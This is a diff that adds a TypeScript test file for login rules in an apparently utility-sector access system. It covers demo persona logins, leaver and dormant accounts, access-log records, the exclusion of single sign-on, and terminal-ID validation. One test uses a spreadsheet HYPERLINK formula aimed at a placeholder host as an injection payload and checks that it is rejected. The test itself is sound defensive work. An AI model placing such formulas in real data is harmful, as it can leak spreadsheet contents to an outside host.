@@ -1,0 +1,136 @@
+import { describe, test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import type { FastifyInstance } from 'fastify';
+import { ConfigError, loadConfig } from '../../src/config.ts';
+import type { Db } from '../../src/store/db.ts';
+import { login, testApp } from '../support/app.ts';
+import { NOW, SP, TERMINALS, USERS, seedFixture } from '../support/fixture.ts';
+import { STORES } from '../support/stores.ts';
+
+/**
+ * Logins that used to skip the checks (issue 14, part 4): the persona login opened any account, a leaver's
+ * and a dormant account logged in, and a refused look-up was logged without the point asked for.
+ */
+for (const store of STORES) {
+  describe(`login rules on ${store.name}`, () => {
+    let db: Db;
+    let dispose: () => Promise<void>;
+    let app: FastifyInstance;
+
+    before(async () => {
+      ({ db, dispose } = await store.open());
+      await seedFixture(db);
+      app = await testApp(db);
+    });
+    after(async () => {
+      await app.close();
+      await dispose();
+    });
+
+    const persona = (userId: string) => app.inject({ method: 'POST', url: '/api/session', payload: { userId } });
+    const refusals = async (userId: string) =>
+      (await db.query<{ rule: string }>(`SELECT rule FROM governance_events WHERE action = 'session.login' AND outcome = 'refused' AND subject_id = $1 ORDER BY id`, [userId])).rows.map((r) => r.rule);
+
+    test('the persona login opens only seeded demo personas: not another account of the same person, not one with an authenticator', async () => {
+      await db.exec(`INSERT INTO accounts (user_id, person_id) VALUES ('u-cc-legacy', 'p-cc')`);
+      const legacy = await persona('u-cc-legacy');
+      assert.equal(legacy.statusCode, 401, legacy.body);
+      assert.equal(legacy.json().error.code, 'login_failed');
+      assert.deepEqual(await refusals('u-cc-legacy'), ['not_a_demo_persona']);
+
+      await db.query(`UPDATE accounts SET totp_secret = 'JBSWY3DPEHPK3PXP' WHERE user_id = $1`, [USERS.serviceCentre]);
+      const withTotp = await persona(USERS.serviceCentre);
+      assert.equal(withTotp.statusCode, 401, withTotp.body);
+      assert.deepEqual(await refusals(USERS.serviceCentre), ['account_has_credentials']);
+      await db.query(`UPDATE accounts SET totp_secret = NULL WHERE user_id = $1`, [USERS.serviceCentre]);
+      assert.equal((await persona(USERS.serviceCentre)).statusCode, 201, 'the control: the same persona without credentials');
+    });
+
+    test("a leaver's account (no person behind it) is refused at login by every method, and the refusal is evidence", async () => {
+      const res = await persona(USERS.leaver);
+      assert.equal(res.statusCode, 403, res.body);
+      assert.equal(res.json().error.code, 'account_without_person');
+      assert.deepEqual(await refusals(USERS.leaver), ['account_without_person']);
+      const live = await db.query('SELECT 1 FROM sessions WHERE user_id = $1', [USERS.leaver]);
+      assert.equal(live.rows.length, 0);
+    });
+
+    test('a dormant account is refused at login and stays dormant (the login does not revive it)', async () => {
+      const old = new Date(NOW.getTime() - 91 * 86_400_000);
+      await db.query('UPDATE accounts SET created_at = $2, last_login_at = $2 WHERE user_id = $1', [USERS.otherRetailer, old]);
+      const res = await persona(USERS.otherRetailer);
+      assert.equal(res.statusCode, 403, res.body);
+      assert.equal(res.json().error.code, 'dormant_account');
+      const { rows } = await db.query<{ last_login_at: Date | string }>('SELECT last_login_at FROM accounts WHERE user_id = $1', [USERS.otherRetailer]);
+      assert.equal(new Date(rows[0]?.last_login_at ?? 0).getTime(), old.getTime());
+      // One day fewer is not dormant: the boundary is the sweep's own.
+      await db.query('UPDATE accounts SET created_at = $2, last_login_at = $2 WHERE user_id = $1', [USERS.otherRetailer, new Date(NOW.getTime() - 89 * 86_400_000)]);
+      assert.equal((await persona(USERS.otherRetailer)).statusCode, 201);
+    });
+
+    test('a refused look-up keeps the supply point asked for; one that fails in the store still leaves its event', async () => {
+      // The access administrator holds no customer.read.
+      const admin = await login(app, USERS.admin);
+      const refused = await app.inject({ method: 'GET', url: `/api/supply-points/${SP.R3}?purpose=audit_review`, headers: { cookie: admin.cookie } });
+      assert.equal(refused.statusCode, 403, refused.body);
+      const event = async (requestId: string) =>
+        (await db.query<{ outcome: string; refusal: string; supply_point_ids: string[]; query: unknown }>('SELECT outcome, refusal, supply_point_ids, query FROM access_log WHERE request_id = $1', [requestId])).rows[0];
+      const e1 = await event(String(refused.headers['x-request-id']));
+      assert.deepEqual([e1?.outcome, e1?.refusal, e1?.supply_point_ids], ['refused', 'permission_not_granted', [SP.R3]]);
+
+      const cc = await login(app, USERS.callCentre);
+      const missing = '0299999999999999999999';
+      const notFound = await app.inject({ method: 'GET', url: `/api/supply-points/${missing}?purpose=customer_inquiry`, headers: { cookie: cc.cookie } });
+      assert.equal(notFound.statusCode, 404);
+      const e2 = await event(String(notFound.headers['x-request-id']));
+      const q2 = (typeof e2?.query === 'string' ? JSON.parse(e2.query) : e2?.query) as { supplyPointId?: string };
+      assert.equal(q2.supplyPointId, missing);
+
+      await db.exec('ALTER TABLE supply_points RENAME COLUMN meter_id TO meter_id_gone');
+      try {
+        const failed = await app.inject({ method: 'GET', url: `/api/supply-points/${SP.OWN_A}?purpose=customer_inquiry`, headers: { cookie: cc.cookie } });
+        assert.equal(failed.statusCode >= 500, true, failed.body);
+        const e3 = await event(String(failed.headers['x-request-id']));
+        assert.deepEqual([e3?.outcome, e3?.refusal], ['refused', 'read_failed']);
+      } finally {
+        await db.exec('ALTER TABLE supply_points RENAME COLUMN meter_id_gone TO meter_id');
+      }
+    });
+
+    test('once any account logs in with a password, the persona login is off for everyone', async () => {
+      assert.equal((await persona(USERS.retail)).statusCode, 201, 'the control');
+      await db.query(`UPDATE accounts SET password_hash = 'x' WHERE user_id = $1`, [USERS.compliance]);
+      const res = await persona(USERS.retail);
+      assert.equal(res.statusCode, 404, res.body);
+      assert.equal(res.json().error.code, 'demo_login_disabled');
+    });
+  });
+}
+
+test('the persona login never runs beside single sign-on', () => {
+  const sso = { GRIDWALL_OIDC_ISSUER: 'https://idp.example.jp', GRIDWALL_OIDC_CLIENT_ID: 'gridwall', GRIDWALL_PUBLIC_URL: 'https://gridwall.example.jp' };
+  assert.equal(loadConfig({ ...sso }).demoLogin, false);
+  assert.throws(() => loadConfig({ ...sso, GRIDWALL_DEMO_LOGIN: 'true' }), (e: unknown) => e instanceof ConfigError && /cannot be on with single sign-on/.test(e.message));
+  assert.equal(loadConfig({}).demoLogin, true, 'the control: the embedded demo');
+});
+
+for (const store of STORES.slice(0, 1)) {
+  test(`a login's terminal ID is held to the registry's pattern, by every login route (${store.name})`, async () => {
+    const { db, dispose } = await store.open();
+    try {
+      await seedFixture(db);
+      const app = await testApp(db);
+      const formula = '=HYPERLINK("http://x.example/"&A2,"open")';
+      const demo = await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: formula } });
+      assert.equal(demo.statusCode, 400, demo.body);
+      const password = await app.inject({ method: 'POST', url: '/api/session/password', payload: { userId: USERS.retail, password: 'x', code: '000000', terminalId: formula } });
+      assert.equal(password.statusCode, 400, password.body);
+      const { rows } = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM sessions');
+      assert.equal(rows[0]?.n, 0);
+      assert.equal((await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: TERMINALS.RETAIL } })).statusCode, 201, 'the control');
+      await app.close();
+    } finally {
+      await dispose();
+    }
+  });
+}
